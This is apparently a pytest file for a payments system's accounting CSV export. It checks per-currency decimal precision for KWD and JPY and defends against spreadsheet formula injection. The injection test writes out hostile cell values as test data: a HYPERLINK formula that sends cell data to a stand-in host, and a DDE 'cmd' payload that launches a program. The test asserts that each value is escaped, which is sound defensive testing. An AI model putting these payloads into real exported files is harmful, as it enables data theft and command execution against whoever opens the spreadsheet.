"""The accounting export writes what the ledger holds: each currency's own decimals, text never a formula."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from payments.exports import export_csv
from payments.ledger import Acct, cr, dr, journal_post

pytestmark = pytest.mark.django_db

SPAN = {"since": date(2026, 6, 1), "until": date(2026, 6, 30)}


def _rows(layout):
    return list(csv.DictReader(io.StringIO(export_csv(layout=layout, **SPAN))))


def test_three_decimal_currency_is_exported_to_the_fils():
    """A KWD entry of 0.005 + 0.005 against 0.010 was written with two decimals: 0.00, 0.00 and 0.01, so the file's
    entry no longer balanced and no amount matched the ledger."""
    entry = journal_post(lines=[dr(Acct.BANK, Decimal("0.005")), dr(Acct.PROCESSING_FEES, Decimal("0.005")),
                                cr(Acct.CARD_CLEARING, Decimal("0.010"))],
                         memo="Settlement", reference="settle:kwd", acting_user=None, currency="KWD",
                         posted_on=date(2026, 6, 9))
    held = {line.account.code: line.debit - line.credit for line in entry.lines.select_related("account")}
    generic = _rows("generic")
    assert {r["account"]: Decimal(r["debit"]) - Decimal(r["credit"]) for r in generic} == held
    assert [r["debit"] for r in generic] == ["0.005", "0.005", "0.000"]
    gp = _rows("dynamics_gp")
    assert {r["ACTNUMST"]: Decimal(r["DEBITAMT"]) - Decimal(r["CRDTAMNT"]) for r in gp} == held
    sage = _rows("sage50")
    assert {r["G/L Account"]: Decimal(r["Amount"]) for r in sage} == held
    assert sum(Decimal(r["Amount"]) for r in sage) == 0


def test_zero_decimal_currency_is_exported_without_decimals():
    journal_post(lines=[dr(Acct.BANK, Decimal("1500")), cr(Acct.CARD_CLEARING, Decimal("1500"))],
                 memo="Settlement", reference="settle:jpy", acting_user=None, currency="JPY",
                 posted_on=date(2026, 6, 9))
    assert [(r["debit"], r["credit"]) for r in _rows("generic")] == [("1500", "0"), ("0", "1500")]


def test_text_that_a_spreadsheet_would_run_is_kept_as_text():
    """A reference or memo typed by a person (an invoice payment's bank reference, a settlement file's name) went
    into the file as it was typed, so "=HYPERLINK(...)" opened as a live formula in a spreadsheet."""
    hostile = '=HYPERLINK("http://x.example/?"&A1,"ok")'
    journal_post(lines=[dr(Acct.BANK, Decimal("12.50"), "+cmd|' /C calc'!A0"),
                        cr(Acct.RECEIVABLE, Decimal("12.50"), "@SUM(1+1)")],
                 memo="-2+3", reference=hostile, acting_user=None, currency="BRL", posted_on=date(2026, 6, 9))
    generic = _rows("generic")
    assert [r["reference"] for r in generic] == ["'" + hostile] * 2
    assert [r["memo"] for r in generic] == ["'-2+3"] * 2
    assert [r["description"] for r in generic] == ["'+cmd|' /C calc'!A0", "'@SUM(1+1)"]
    gp = _rows("dynamics_gp")
    assert all(r["REFRENCE"].startswith("'=") and r["DSCRIPTN"][0] == "'" for r in gp)
    sage = _rows("sage50")
    assert [r["Description"] for r in sage] == ["'+cmd|' /C calc'!A0", "'@SUM(1+1)"]
    assert [r["Amount"] for r in sage] == ["12.50", "-12.50"]  # a credit's minus sign is a number, not a formula
